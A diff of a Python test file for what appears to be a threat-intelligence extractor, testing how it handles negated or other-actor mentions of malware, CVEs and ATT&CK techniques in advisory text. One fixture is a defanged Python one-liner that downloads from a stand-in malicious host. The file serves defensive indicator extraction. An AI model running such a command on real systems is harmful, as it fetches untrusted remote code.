@@ -391,13 +391,70 @@ def test_the_most_restrictive_tlp_wins_and_broken_misp_lists_are_skipped() -> No
         ("No doubt remains that Emotet delivered the first stage.", "Emotet", False),
         ("Mimikatz is not mentioned in this advisory.", "Mimikatz", True),
         ("Mimikatz was not among the tools used by this affiliate.", "Mimikatz", True),
+        # A denial runs over the list it opens, or that "neither" closes ...
+        ("It relies on Responder and has exploited CVE-2023-23397; neither was present.", "Responder", True),
+        (
+            "It relies on Responder and has exploited CVE-2023-23397; neither was present.",
+            "CVE-2023-23397",
+            True,
+        ),
+        # ... but not to a mention that has a claim of its own.
+        ("We found no Mimikatz, and PsExec was used for lateral movement.", "PsExec", False),
+        ("Mimikatz was used, none of the other tools were found.", "Mimikatz", False),
     ],
 )
 def test_mentions_a_sentence_denies_are_not_evidence(sentence: str, mention: str, denied: bool) -> None:
-    from unmask.extract.text import negated
+    from unmask.extract.context import negated
 
     start = sentence.index(mention)
     assert negated(sentence, start, start + len(mention)) is denied
+
+
+def test_a_table_row_that_says_not_observed_is_denied(sources_kb: KnowledgeBase, tmp_path: Path) -> None:
+    rows = [("T1566.001", "observed"), ("T1485", "was not observed"), ("T1059.001", "observed")]
+    markdown = tmp_path / "a.md"
+    markdown.write_text(
+        "# Advisory\n\n| ID | Note |\n|---|---|\n" + "".join(f"| {t} | {n} |\n" for t, n in rows),
+        encoding="utf-8",
+    )
+    html = tmp_path / "a.html"
+    html.write_text(
+        "<table>" + "".join(f"<tr><td>{t}</td><td>{n}</td></tr>" for t, n in rows) + "</table>",
+        encoding="utf-8",
+    )
+    extractor = TextExtractor(sources_kb)
+    for path in (markdown, html):
+        found = extractor.extract_file(path)
+        assert [o.value for o in found.observations] == ["T1566.001", "T1059.001"], path
+        assert any("'T1485' is denied" in p for p in found.problems)
+    assert extractor.extract_file(html).title is None  # a table's row is no title
+
+
+@pytest.mark.parametrize(
+    ("text", "taken"),
+    [
+        # The rest of a list a denial opens.
+        ("We did not see Mimikatz, Helminth or ZeroCleare on any host.", []),
+        ("Unlike APT28, which relies on Mimikatz, this cluster used Helminth.", ["S0170"]),
+        ("We are not attributing this activity to APT28, whose attacks used Mimikatz.", []),
+        ("APT28 typically deploys Mimikatz and Helminth.", []),
+        ("In contrast to APT28, the actor used Mimikatz.", ["S0002"]),
+        ("The intrusion is attributed to APT28, which deployed Mimikatz on the servers.", ["S0002"]),
+        ("We cannot confirm whether the actors exploited CVE-2023-20269.", []),
+        ("The loader, a successor to Helminth, dropped Mimikatz.", ["S0002"]),
+        ("The actors deployed Mimikatz and Helminth.", ["S0002", "S0170"]),
+    ],
+)
+def test_mentions_said_of_another_actor_unconfirmed_or_denied_in_a_list_are_not_taken(
+    sources_kb: KnowledgeBase, text: str, taken: list[str]
+) -> None:
+    found = TextExtractor(sources_kb).extract_text(text, "r.txt")
+    assert [o.value for o in found.observations if o.kind is not ObservationKind.TIMING] == taken
+    # Every mention left out is said so, with why.
+    left_out = [p for p in found.problems if "not taken as evidence" in p]
+    assert len(left_out) == text.count("Mimikatz") + text.count("Helminth") + text.count(
+        "ZeroCleare"
+    ) + text.count("CVE-") - len(taken)
 
 
 def test_a_denied_technique_is_noted_not_extracted(kb: KnowledgeBase) -> None:
@@ -808,3 +865,18 @@ def test_a_passive_with_an_adverb(kb: KnowledgeBase) -> None:
         "Israeli companies were also attacked by the group.", "r.txt", "a"
     )
     assert {o.value for o in result.observations if o.kind is ObservationKind.VICTIM} == {"IL"}
+
+
+def test_version_numbers_are_no_addresses_and_quoted_urls_end_at_their_quote(
+    sources_kb: KnowledgeBase,
+) -> None:
+    extractor = TextExtractor(sources_kb)
+    found = extractor.extract_text(
+        'The script held "version 2.10.4.1"; the loader ran on firmware 7.2.5.1.', "r.txt"
+    )
+    assert found.observations == [] and len([n for n in found.notes if "version number" in n]) == 2
+    found = extractor.extract_text("It beaconed to 203.0.113.7 every minute.", "r.txt")
+    assert [o.value for o in found.observations] == ["203.0.113.7"]
+    code = "python -c \"import urllib; urllib.urlopen('hxxps://upd.evil-trading[.]org/update').read()\""
+    urls = [o.value for o in extractor.extract_text(code, "r.txt").observations if o.subtype == "url"]
+    assert urls == ["https://upd.evil-trading.org/update"]
